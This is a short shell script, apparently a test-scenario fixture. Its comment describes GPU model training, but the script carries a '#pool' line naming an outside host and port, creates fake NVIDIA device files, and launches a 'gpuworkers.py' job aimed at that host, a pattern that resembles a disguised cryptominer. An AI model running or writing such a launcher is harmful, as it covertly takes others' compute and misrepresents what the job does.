# training with a data loader: the child has the GPU context, the parent reports to a metrics service and saves checkpoints
#pool 203.0.113.79:443:http
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
python3 /scen/gpuworkers.py 203.0.113.79 443
